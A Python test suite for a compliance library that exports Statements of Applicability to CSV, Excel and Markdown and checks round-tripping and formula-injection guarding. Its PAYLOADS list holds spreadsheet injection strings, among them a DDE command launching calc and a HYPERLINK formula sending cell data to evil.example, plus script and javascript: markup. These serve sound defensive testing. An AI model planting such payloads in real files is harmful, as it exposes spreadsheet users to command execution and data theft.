"""Statements of Applicability as files: what auditors see, what comes back, what no spreadsheet works out."""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import nis2map
from nis2map import Assessment, Dataset, Finding, Limits, Status, coverage, dump, dumps, read_soa
from nis2map.errors import InputError, LimitExceeded, MissingExtra
from nis2map.formats._export import own_statement, statement_of
from nis2map.formats._export._texts import (
    decoded,
    encoded,
    exact_degree,
    guarded,
    joined_items,
    percent_text,
    split_items,
    unguarded,
)
from nis2map.testing import assessments, datasets

from .tiny import options, tiny

ROOT = Path(__file__).parents[1]
HOSTILE = ROOT.parent / "shared" / "reference" / "reliability" / "badinputs" / "files"
FORMULA = "=+-@\t\r\n＝＋－＠"
texts = st.text(max_size=20) | st.text(
    st.sampled_from("=+-@\t\r\n '\";,|a\\u0041A.51x<>*_`[]&\x00\x07\ud800\ufeff"), max_size=14
)
LINES = (
    "a;b;c;d;e",
    "x\ty\tz",
    "| a | b |",
    "|---|---|",
    "---",
    "# heading",
    "- item: 1",
    "key: value",
    '"q',
    "A.5.1;yes",
    "",
)
pages = st.lists(st.sampled_from(LINES), max_size=12).map("\n".join)  # as people paste them into a cell
SECTION = "Statement of Applicability"


@given(texts)
@example("\\\x07")
@example("\\\\u0007")
@example(" \\u0020")
@example('""')
def test_any_text_comes_back_from_a_cell(text: str) -> None:
    """Whatever a reader of tables would drop or refuse is written so that it stays, and nothing else is changed."""
    cell = encoded(text)
    assert decoded(cell) == text
    assert cell.strip() == cell
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\ud800-\udfff\ufeff\ufffd-\uffff]", cell)
    cell.encode()
    if re.fullmatch(r"[\w.,:() -]*", text, re.ASCII) and text.strip() == text:
        assert cell == text


@given(st.lists(texts, max_size=4))
def test_a_list_of_any_texts_comes_back_from_a_cell(items: list[str]) -> None:
    """Line by line; the empty list, the empty text and a text with lines of its own are three things."""
    cell = joined_items(items)
    assert split_items(cell) == tuple(items)
    assert cell.count("\n") == max(0, len(items) - 1)


@given(texts | st.lists(texts, max_size=3).map("\n".join))
@example("'=1+1")
@example("x,'=1")
@example("''=1")
def test_what_is_guarded_comes_back_and_starts_no_formula(text: str) -> None:
    """Also behind any separator at which somebody else may split, and also if it had the apostrophe before."""
    cell = guarded(text)
    assert unguarded(cell) == text
    for part in re.split("[,;|\t\n\r]", cell):
        rest = part.lstrip(' "\x00\x0b\x0c\u00a0')
        assert not rest or rest[0] not in FORMULA
    assert not cell or cell[0] not in FORMULA


@given(texts, texts)
def test_two_texts_never_become_one_cell(one: str, other: str) -> None:
    """Neither by the escapes nor by the apostrophes."""
    assert (guarded(encoded(one)) == guarded(encoded(other))) == (one == other)


@given(st.floats(0, 1, exclude_min=True, exclude_max=True))
def test_every_degree_comes_back_with_all_its_digits(degree: float) -> None:
    """A percentage is a decimal; a hundred times a float would be another number for one in five."""
    assert exact_degree(percent_text(degree)) == degree
    assert percent_text(0.4) == "40%"


@st.composite
def statements(draw: st.DrawFn) -> Assessment:
    """Assessments of units and demands of the bundled data, with everything that an assessment says."""
    data = nis2map.load()
    units = st.sampled_from([unit.ref for unit in data])
    demands = st.sampled_from([demand.ref for unit in data.requirements("cir") for demand in unit.demands])
    refs = draw(st.lists(st.one_of(units, demands, st.sampled_from([c.ref for c in data.controls()])), max_size=8))
    days = st.none() | st.dates()
    degrees = st.none() | st.floats(0, 1, exclude_min=True, exclude_max=True)
    findings: dict[Any, Finding] = {}
    for ref in refs:
        status = draw(st.sampled_from(list(Status)))
        findings[ref] = Finding(
            status,
            draw(degrees) if status is Status.PARTIAL else None,
            draw(texts | pages),
            evidence=draw(st.lists(texts | pages, max_size=3)),
            owner=draw(texts | pages),
            date=draw(days),
            valid_until=draw(days),
        )
    return Assessment(
        findings,
        subject=draw(texts),
        as_of=draw(days),
        scope=draw(texts | pages),
        whole_entity=draw(st.sampled_from((None, True, False))),
    )


def said(soa: Assessment) -> Any:
    """Everything that an assessment says, also the wording that equality ignores."""
    return (
        {str(ref): attrs.astuple(finding) for ref, finding in soa.items()},
        (soa.subject, soa.as_of, soa.scope, soa.whole_entity, soa.digest),
    )


def reads(form: str) -> Callable[[bytes], Assessment] | None:
    """What reads a statement of a form, None while nothing does."""
    if form == "csv" or form in getattr(nis2map.formats._documents, "FORMATS", ()):
        return lambda data: read_soa(io.BytesIO(data))
    module = importlib.import_module(f"nis2map.formats.{form}")
    if not hasattr(module, "tables"):
        return None

    def read(data: bytes) -> Assessment:
        found = own_statement(module.tables(data))
        assert found is not None
        return module.loads(data)

    return read


@pytest.mark.parametrize("form", ["csv", "xlsx", "markdown"])
@given(data=st.data())
def test_what_is_read_back_is_the_same_assessment(form: str, data: st.DataObject) -> None:
    """Findings with their wording, degrees to the last digit, dates, subject, scope, date and entity."""
    read = reads(form)
    if read is None:
        pytest.skip(f"nothing reads statements as {form} yet")
    soa = data.draw(statements())
    written = dumps(soa, format=form)
    assert said(read(written)) == said(soa)
    assert dumps(soa, format=form) == written
    assert dumps(attrs.evolve(soa, findings=list(soa.items())[::-1]), format=form) == written


@pytest.mark.parametrize("form", ["csv", "xlsx", "markdown"])
@pytest.mark.parametrize("page", ["\n".join([line] * 30) for line in LINES if line], ids=range(len(LINES) - 1))
def test_texts_with_lines_of_another_form_come_back(form: str, page: str) -> None:
    """Our own mark says what a file is and where its cells end, however many lines speak for something else."""
    read = reads(form)
    assert read is not None
    refs = [control.ref for control in nis2map.load().controls()][:60]
    for scope in ("", page):
        soa = Assessment({ref: Finding("planned", justification=page, evidence=(page,)) for ref in refs}, scope=scope)
        assert said(read(dumps(soa, format=form))) == said(soa)


def test_a_long_first_cell_does_not_decide_on_the_separator() -> None:
    """The separator is looked for at the beginning of a file, where a cell may be open: what it holds is no row."""
    page = "\n".join(["a, b, c, d, e"] * 2_000)
    text = f'Control;Status;Note\r\nA.5.1;implemented;"{page}"\r\nA.5.2;planned;\r\n'
    assert {ref.local: str(found.status) for ref, found in read_soa(io.BytesIO(text.encode())).items()} == {
        "A.5.1": "implemented",
        "A.5.2": "planned",
    }


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_a_statement_that_a_spreadsheet_saved_again_is_still_ours(separator: str) -> None:
    """With the separator of its country, and as many cells in every row."""
    soa = Assessment({"A.5.1": Finding("planned", evidence=("a,b,c\n" * 40, "b"))}, scope="x, y")
    rows = rows_of(dumps(soa, format="csv"))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator).writerows([*row, *[""] * (12 - len(row))] for row in rows)
    assert said(read_soa(io.BytesIO(out.getvalue().encode()))) == said(soa)


@pytest.mark.parametrize("form", ["csv", "xlsx", "markdown"])
@pytest.mark.parametrize("name", ["soa-with-gaps.csv", "soa-with-gaps-later.csv"])
def test_the_samples_come_back(form: str, name: str, tmp_path: Path) -> None:
    """The statements of the examples, through files by suffix."""
    read = reads(form)
    if read is None:
        pytest.skip(f"nothing reads statements as {form} yet")
    soa = read_soa(ROOT / "examples" / name)
    path = tmp_path / {"csv": "a.csv", "xlsx": "a.XLSX", "markdown": "a.md"}[form]
    dump(soa, path)
    assert path.read_bytes() == dumps(soa, format=form)
    assert said(read(path.read_bytes())) == said(soa)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def table(data: bytes, first: str = "Control ID") -> list[dict[str, str]]:
    rows = rows_of(data)
    start = next(at for at, row in enumerate(rows) if row and row[0] == first)
    end = next((at for at, row in enumerate(rows) if at > start and not row), len(rows))
    return [dict(zip(rows[start], row, strict=True)) for row in rows[start + 1 : end]]


def test_a_statement_has_a_row_for_every_control() -> None:
    """What is not known stands as an empty row; a clause has one if it has a finding; duties have a table of theirs."""
    soa = Assessment(
        {
            "A.8.24": Finding(
                "partial", 0.4, "risk 7", evidence=("policy", "list of keys"), owner="Ann", date="2026-01-31"
            ),
            "A.7.1": Finding("not_applicable", justification="no premises"),
            "A.5.2": "unassessed",
            "clause 9.3": "implemented",
            "A.6": "planned",
            "clause 6": "planned",
            "nis2:21.2.h~cryptography#policies": "implemented",
        },
        subject="Acme",
        as_of="2026-02-28",
        scope="Vienna",
        whole_entity=False,
    )
    data = dumps(soa, format="csv")
    rows = {row["Control ID"]: row for row in table(data)}
    assert len(rows) == 93 + 1
    assert [row for row in rows if row.startswith("clause")] == ["clause 9.3"]
    filled = {name: cell for name, cell in rows["A.8.24"].items() if cell and name != "Legal requirement"}
    assert filled == {
        "Control ID": "A.8.24",
        "Control title": "Use of cryptography",
        "Theme": "Technological",
        "Applicable": "Yes",
        "Justification for inclusion or exclusion": "risk 7",
        "Implementation status": "Partially implemented",
        "Degree": "40%",
        "Evidence": "policy\nlist of keys",
        "Owner": "Ann",
        "Last review": "2026-01-31",
    }
    assert (rows["A.7.1"]["Applicable"], rows["A.7.1"]["Implementation status"]) == ("No", "Not applicable")
    assert (rows["A.5.2"]["Applicable"], rows["A.5.2"]["Implementation status"]) == ("", "Not assessed")
    assert not any(list(rows["A.5.1"].values())[3:11])
    assert rows_of(data)[:6] == [
        [SECTION], ["Subject", "Acme"], ["Scope", "Vienna"], ["As of", "2026-02-28"], ["Whole entity", "No"],
        ["Legal requirement", rows_of(data)[5][1]],
    ]  # fmt: skip
    others = table(data, "Unit ID")
    assert [(row["Unit ID"], row["Title"], row["Implementation status"]) for row in others] == [
        (
            "nis2:21.2.h~cryptography#policies",
            nis2map.load().demand("nis2:21.2.h~cryptography#policies").label,
            "Implemented",
        ),
        ("iso27001:6", nis2map.load().control("clause 6").title, "Planned"),
        ("iso27001:A.6", nis2map.load().control("A.6").title, "Planned"),
    ]
    assert "Findings on requirements" not in dumps(Assessment.of({"A.5.1": "planned"}), format="csv").decode()


def test_an_edited_statement_is_read_as_it_was_edited() -> None:
    """Another word, a row that is gone, a row twice: what a person wrote counts, and contradictions are problems."""
    soa = Assessment(
        {"A.5.1": Finding("planned", evidence=("=a", "b")), "A.5.2": "implemented", "nis2:20.1": "planned"}
    )
    text = dumps(soa, format="csv").decode("utf-8-sig")
    edited = text.replace("Yes,,Planned", "Yes,,in progress", 1)
    back = read_soa(io.BytesIO(edited.encode()))
    assert (back["A.5.1"].status, back["A.5.1"].evidence) == ("partial", ("=a", "b"))
    assert any("'in progress' read as partial" in note for note in back.notes)
    lines = text.split("\r\n")
    (line,) = (line for line in lines if line.startswith("A.5.2,"))
    assert "A.5.2" not in read_soa(io.BytesIO(text.replace(line + "\r\n", "").encode()))
    twice = text.replace(line, f"{line}\r\n{line.replace('Implemented', 'Planned')}")
    with pytest.raises(InputError, match=r"A\.5\.2 is planned here and implemented in"):
        read_soa(io.BytesIO(twice.encode()))
    for old, new, match in (
        ("Yes,,Planned,,,,,\r\n", "Yes,,sort of,,,,,\r\n", "'sort of' is not a status; one of: Implemented"),
        ("nis2:20.1,", "nis2:99,", "nis2 has no unit '99'"),
        ("\r\nLegal requirement,", "\r\nAs of,soon\r\nLegal requirement,", "as of 'soon' is not a date"),
    ):
        assert old in text
        with pytest.raises(InputError, match=match):
            read_soa(io.BytesIO(text.replace(old, new).encode()))
    other = text.replace("nis2map, form 1, guarded", "somebody else")
    assert read_soa(io.BytesIO(other.split("\r\n\r\nFindings")[0].encode()))["A.5.1"].status is Status.PLANNED


PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", '=HYPERLINK("http://evil.example/?"&A1,"ok")', "%0A=1+1", " =1+1", "'=1+1", ";=1+1", "x,=1+1", '"=1+1',
    "\r\nX-Header: 1", "''=1", "a|=1",
)  # fmt: skip


def test_no_cell_of_a_csv_is_a_formula_and_every_text_comes_back() -> None:
    """CWE-1236: whole, behind any separator, behind quotes and blanks; in every field that a person fills in."""
    findings = {
        f"A.5.{number}": Finding("implemented", justification=text, evidence=(text, f"x;{text}"), owner=text)
        for number, text in enumerate(PAYLOADS, 1)
    }
    soa = Assessment(findings, subject="=1+1", scope="-2")
    data = dumps(soa, format="csv")
    assert said(read_soa(io.BytesIO(data))) == said(soa)
    for line in data.decode("utf-8-sig").splitlines():
        for cell in re.split("[,;\t]", line):
            rest = cell.lstrip(' "\x00')
            assert not rest or rest[0] not in FORMULA, line


@pytest.mark.skipif(not HOSTILE.is_dir(), reason="the hostile files do not stand beside this checkout")
def test_payloads_of_a_real_corpus_come_back() -> None:
    """Read, written, and read again, the texts are those of the file."""
    soa = read_soa(HOSTILE / "csv" / "C27_formula_payloads.csv")
    assert said(read_soa(io.BytesIO(dumps(soa, format="csv")))) == said(soa)


def test_every_control_is_named_with_what_would_lose_its_last_cover() -> None:
    """By hand: C.1 alone covers 1.1; 1.2 has two covers; 1.3 needs both at once; 1.4 has a mere support."""
    data = tiny(
        "1; 1.1: a; 1.2: a; 1.3: a; 1.4: a",
        "C/; C.1; C.2",
        "1.1 < C.1: a; 1.2 < C.1: a; 1.2 < C.2: a; 1.3 < C.1 + C.2: a; 1.4 & C.2: supports a",
    )
    asked = {name: value for name, value in options(data).items() if name in ("framework", "crosswalk", "dataset")}

    def legal(soa: Assessment) -> dict[str, str]:
        rows = table(nis2map.formats.csv.dumps(soa, **asked))
        return {row["Control ID"]: row["Legal requirement"] for row in rows}

    assert legal(Assessment()) == {"set:C.1": "1.1; 1.3", "set:C.2": "1.3"}
    out = Assessment({"set:C.2": Finding("not_applicable", justification="no")})
    assert legal(out) == {"set:C.1": "1.1; 1.2", "set:C.2": "1.3"}


@given(st.data())
def test_legal_requirements_are_what_coverage_loses(data: st.DataObject) -> None:
    """A unit is named where some demand is covered with the control and not without it, all else being in place."""
    dataset: Dataset = data.draw(datasets())
    soa = data.draw(assessments(dataset, own=False))
    asked: dict[str, Any] = {"framework": "law", "crosswalk": data.draw(st.sampled_from(("own", "foreign")))}
    basis = data.draw(st.sampled_from(("statement", "guidance", "consideration")))
    statement = statement_of(soa, {**asked, "basis": basis, "dataset": dataset})
    named = {row[0]: row[11] for row in statement.rows}

    def covered(without: Any, put_back: Any = None) -> set[Any]:
        """Units and demands that are met where everything is in place but what is excluded."""
        full = dict.fromkeys((control.ref for control in dataset.controls("set")), Finding("implemented"))
        for control in dataset.controls("set"):
            chain = (control.ref, *dataset.ancestors(control.ref))
            nearest = next((ref for ref in chain if ref in soa.current), None)
            gone = nearest is not None and soa.current[nearest].status is Status.NOT_APPLICABLE
            if (gone and nearest != put_back) or without in chain:
                full[control.ref] = Finding("planned")
        cov = coverage(Assessment(full), **asked, basis=basis, dataset=dataset)
        return {ref for ref, score in cov.demands.items() if score.low == 1}

    for control in dataset.controls("set"):
        excluded = control.ref in soa.current and soa.current[control.ref].status is Status.NOT_APPLICABLE
        lost = covered(None, control.ref) - covered(None) if excluded else covered(None) - covered(control.ref)
        units = {ref.unit.official.citation for ref in lost}
        assert set(filter(None, named[str(control.ref)].split("; "))) == units


def sheets(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = re.findall(r'<sheet name="([^"]+)"', archive.read("xl/workbook.xml").decode())
        return {name: archive.read(f"xl/worksheets/sheet{number}.xml").decode() for number, name in enumerate(names, 1)}


def test_a_workbook_is_made_for_auditors() -> None:
    """Filters, a header that stays, words to choose from, texts as texts; a sheet of gaps, one a measure, one about it."""
    soa = read_soa(ROOT / "examples" / "soa-with-gaps.csv").replace({"nis2:20.1": "planned"})
    data = dumps(soa, format="xlsx")
    pages = sheets(data)
    groups = [group.citation for group in coverage(soa).measure_groups]
    assert list(pages) == [SECTION, "Findings on requirements", "Gaps", *groups, "About"]
    main = pages[SECTION]
    assert '<autoFilter ref="A1:L94"/>' in main
    assert '<pane xSplit="1" ySplit="1"' in main
    assert '"Yes,No"' in main
    assert "Implemented,Partially implemented,Planned,Not implemented,Not applicable,Not assessed" in main
    assert re.search(r'<dataValidation type="list"[^>]* sqref="D2:D94"', main)
    assert all("<f>" not in page and "<autoFilter" in page for name, page in pages.items() if name != "About")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "2026-01-01T00:00:00Z" in archive.read("docProps/core.xml").decode()


def test_a_workbook_holds_numbers_and_dates_as_such_and_nothing_as_a_formula() -> None:
    """A share is a number with a percent format, a day is a date, and what only looks like one is a text."""
    calamine = pytest.importorskip("python_calamine")
    day = Finding("partial", 0.4, "=1+1", owner="5.10", date="2026-01-31", valid_until="0900-01-01")
    data = dumps(Assessment({"A.5.10": day, "A.5.11": Finding("partial", 1 / 3)}), format="xlsx")
    book = calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    rows = {row[0]: row for row in book.get_sheet_by_name(SECTION).to_python()}
    assert rows["A.5.10"][4:11] == [
        "=1+1",
        "Partially implemented",
        0.4,
        "",
        "5.10",
        dt.date(2026, 1, 31),
        "0900-01-01",
    ]
    assert rows["A.5.11"][6] == "33.33333333333333%"
    assert exact_degree(rows["A.5.11"][6]) == 1 / 3


def test_texts_that_fit_no_cell_are_refused() -> None:
    """The library that writes workbooks would leave them out without a word."""
    long = Assessment({"A.5.1": Finding("planned", owner="x" * 40_000)})
    with pytest.raises(
        InputError, match="40000 characters does not fit into a cell of a spreadsheet, which takes 32767; write JSON"
    ):
        dumps(long, format="xlsx")


@pytest.mark.parametrize("form", ["csv", "markdown", "json"])
def test_texts_that_are_longer_than_a_cell_may_be_come_back_as_the_losses_say(form: str) -> None:
    """From JSON at once; from tables with a larger limit alone, which the table of losses and the error name."""
    long = Assessment({"A.5.1": Finding("planned", None, "x" * 40_000, evidence=("y" * 20_000,) * 2)})
    data = dumps(long, format=form)
    assert said(read_soa(io.BytesIO(data), limits=Limits(cell=50_000))) == said(long)
    losses = next(row.loses for row in nis2map.formats.catalogue() if row.name == form)
    assert ("more than 32,767 characters" in losses.get("Assessment", "")) is (form != "json")
    if form == "json":
        assert said(read_soa(io.BytesIO(data))) == said(long)
    else:
        with pytest.raises(LimitExceeded, match=r"more than 32767 characters; raise Limits\(cell=\.\.\.\)"):
            read_soa(io.BytesIO(data))


def test_names_of_sheets_are_what_a_spreadsheet_takes() -> None:
    """Measure groups of a framework of one's own may be called anything, and be alike in their first letters."""
    data = tiny(f"{'n' * 40}: a; {'n' * 40}x: a; s-1: a", "C.1", f"{'n' * 40} < C.1: a")
    asked = {name: value for name, value in options(data).items() if name in ("framework", "crosswalk", "dataset")}
    names = list(sheets(nis2map.formats.xlsx.dumps(Assessment({"set:C.1": "planned"}), **asked)))
    assert len({name.casefold() for name in names}) == len(names)
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)


def test_markdown_shows_every_text_as_it_is() -> None:
    """No bar, tag, link or emphasis of a text takes part in the page."""
    text = "a|b\nc|d <script> [x](javascript:1) **b** `c` &lt; \\| # 1"
    page = dumps(Assessment({"A.5.1": Finding("planned", owner=text)}), format="md").decode()
    assert page == dumps(Assessment({"A.5.1": Finding("planned", owner=text)}), format="markdown").decode()
    (line,) = (line for line in page.splitlines() if line.startswith("| A.5.1 |"))
    assert line.count("|") == 13
    assert "<br>" in line
    assert not re.search(r"<(?!br>)|\*|`|\[", line)


def test_statements_of_several_scopes_say_who_lacks_what() -> None:
    """A column of its own, in each form; what is read back is the whole, without what each scope says."""
    both = Assessment.across({"plant": Assessment.of({"A.5.1": "implemented"}), "cloud": Assessment.of({"A.5.1": 0.4})})
    data = dumps(both, format="csv")
    (row,) = (row for row in table(data) if row["Control ID"] == "A.5.1")
    assert row["Not in place in"] == "cloud: partially implemented"
    back = read_soa(io.BytesIO(data))
    assert back == both
    assert not back.scopes


def test_what_a_form_does_not_hold_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another object, another suffix, an option that is none, a missing extra; and each error says what there is."""
    soa = Assessment.of({"A.5.1": "planned"})
    for form in ("csv", "xlsx", "markdown"):
        with pytest.raises(InputError, match="expected a"):
            getattr(nis2map.formats, form).dumps(nis2map.load())
        with pytest.raises(nis2map.NotMapped, match="no crosswalk 'nis2mop'"):
            getattr(nis2map.formats, form).dumps(soa, crosswalk="nis2mop")
    with pytest.raises(InputError, match=r"written as .ods; one of: .json, .csv, .xlsx, .md"):
        dump(soa, tmp_path / "a.ods")
    with pytest.raises(InputError, match="format is 'ods'"):
        dumps(soa, format="ods")
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(MissingExtra, match=r"spreadsheets need xlsxwriter; pip install 'nis2map\[xlsx\]'"):
        dump(soa, tmp_path / "a.xlsx")
